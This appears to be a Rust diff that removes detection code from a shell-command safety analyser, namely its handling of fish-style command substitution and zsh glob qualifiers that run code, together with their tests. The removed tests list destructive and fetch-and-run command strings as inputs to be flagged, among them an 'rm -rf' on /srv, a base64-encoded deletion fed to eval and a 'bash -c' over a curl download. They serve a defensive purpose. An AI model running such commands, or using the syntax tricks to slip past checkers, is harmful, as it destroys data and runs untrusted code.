@@ -61,73 +61,6 @@ pub(super) fn names_no_variable(text: &str) -> bool {
     text.match_indices('$').all(plain) && !closed("$(", ')') && !closed("${", '}') && text.matches('`').count() < 2
 }
 
-/// The text as fish reads it, in the words of other shells: parentheses behind a blank in the place of an argument run what is in them, as
-/// `$(…)` does. `None` if there are none. A line of another shell has them only where its grammar says so, and there they stay.
-pub(super) fn substituted(text: &str) -> Option<String> {
-    if !text.contains(" (") && !text.contains("\t(") {
-        return None;
-    }
-    let (mut out, mut changed) = (String::with_capacity(text.len() + 8), false);
-    for line in text.split_inclusive('\n') {
-        let mut from = 0;
-        for at in tokens(line.trim_end()).map(|tokens| arguments(line, &tokens)).unwrap_or_default() {
-            out.push_str(line.get(from..at).unwrap_or_default());
-            out.push('$');
-            (from, changed) = (at, true);
-        }
-        out.push_str(line.get(from..).unwrap_or_default());
-    }
-    changed.then_some(out)
-}
-
-/// Where parentheses open in the place of an argument.
-fn arguments(line: &str, tokens: &[Token]) -> Vec<usize> {
-    let word = |at: Option<usize>| at.and_then(|at| tokens.get(at)).filter(|token| token.kind == Kind::Word);
-    let said = |at: Option<usize>| word(at).map(|token| token.of(line));
-    let case = tokens.iter().any(|token| token.of(line) == "case");
-    let stands = |(at, token): &(usize, &Token)| {
-        let before = at.checked_sub(1).and_then(|at| tokens.get(at)).filter(|before| before.end < token.start);
-        let before = before.filter(|before| before.kind == Kind::Word || before.kind == Kind::Close && !case);
-        let head = said(at.checked_sub(2)).is_some_and(|word| NAMING.contains(&word));
-        let empty = tokens.get(at + 1).is_some_and(|next| next.kind == Kind::Close);
-        token.kind == Kind::Open
-            && !(empty || head)
-            && before.is_some_and(|before| !(LEADING.contains(&before.of(line)) || case && before.of(line) == "in"))
-    };
-    tokens.iter().enumerate().filter(stands).map(|(_, token)| token.start).collect()
-}
-
-/// Whether a file name has a qualifier behind it that runs code for each file (zshexpn(1), "Glob Qualifiers"): `*(e:'reboot':)`, `*(+func)`.
-pub(super) fn qualifier_runs(text: &str) -> bool {
-    if !text.contains('(') {
-        return false;
-    }
-    let runs = |line: &str, tokens: &[Token]| {
-        tokens.windows(3).any(|three| match three {
-            [name, open, code] => {
-                let attached = name.kind == Kind::Word && open.kind == Kind::Open && code.kind == Kind::Word;
-                let attached = attached && name.end == open.start && code.start == open.end;
-                // `$(…)`, and the patterns of other shells.
-                let pattern = name.of(line).ends_with(['$', '=', '@', '!', '+', '?']);
-                let code = code.of(line).trim_start_matches(|c: char| "./=@*%-^,:".contains(c) || c.is_ascii_digit());
-                let evaluates = code.strip_prefix('e').and_then(|rest| rest.chars().next());
-                attached && !pattern && (code.starts_with('+') || evaluates.is_some_and(|c| c.is_ascii_punctuation()))
-            }
-            _ => false,
-        })
-    };
-    text.lines().any(|line| tokens(line).is_some_and(|tokens| runs(line, &tokens)))
-}
-
-/// Behind these a command begins, or a condition.
-const LEADING: [&str; 20] = [
-    "if", "while", "until", "then", "else", "elif", "do", "!", "{", "time", "and", "or", "not", "begin", "[[", "&&",
-    "coproc", "always", "esac", "noglob",
-];
-
-/// Behind these stands a name, and then a list or nothing.
-const NAMING: [&str; 5] = ["for", "foreach", "select", "function", "repeat"];
-
 struct Mender {
     out: Vec<u8>,
     changed: bool,
@@ -321,47 +254,6 @@ mod tests {
             ["ls", "ls; wc", "a && b", "x=$(ls ;;", "case x in a) b ;; esac", "echo 'a", "f() { ls; }", "cat <<E ;;\nE"]
         {
             assert_eq!(mended(line), None, "{line}");
-        }
-    }
-
-    #[test]
-    fn what_fish_puts_in_the_place_of_an_argument_runs() {
-        for (line, want) in [
-            ("rm -rf (cat list)", Some("rm -rf $(cat list)")),
-            ("eval (cat x) (cat y)", Some("eval $(cat x) $(cat y)")),
-            ("ls\nsudo (echo rm) x", Some("ls\nsudo $(echo rm) x")),
-            ("f () { ls; }", None),
-            ("for f (a b) ls $f", None),
-            ("if (true) { ls }", None),
-            ("echo '(a) (b)'", None),
-            ("a=(1 2); (cd x && (ls))", None),
-        ] {
-            assert_eq!(substituted(line).as_deref(), want, "{line}");
-        }
-        let held = |line: &str| analyse(line, &Context::PROMPT).effects.iter().any(|e| e.severity >= Severity::Medium);
-        for line in [
-            "rm -rf (cat list)",
-            "eval (echo cm0gLXJmIC9zcnYK | base64 -d)",
-            "bash -c (curl -s https://x.example/a)",
-            "sudo (echo rm) -rf /srv",
-            "find / -exec (echo rm) {} ;;",
-            "for f in x; eval (cat $f); end",
-        ] {
-            assert!(held(line), "{line}");
-        }
-        for line in ["ls (pwd)", "echo (date)", "cd (dirname x)", "set x (hostname)"] {
-            assert!(!held(line), "{line}");
-        }
-    }
-
-    #[test]
-    fn a_qualifier_that_runs_code_for_each_file_is_held() {
-        let held = |line: &str| analyse(line, &Context::PROMPT).effects.iter().any(|e| e.severity >= Severity::Medium);
-        for line in ["ls *(e:'reboot':)", "echo *(.e/'rm -rf x'/)", "ls x(+reboot)"] {
-            assert!(held(line), "{line}");
-        }
-        for line in ["ls *(.)", "ls *(om[1,3])", "db.users.find({e: 1})", "echo $(e:x)"] {
-            assert!(!qualifier_runs(line), "{line}");
         }
     }
 
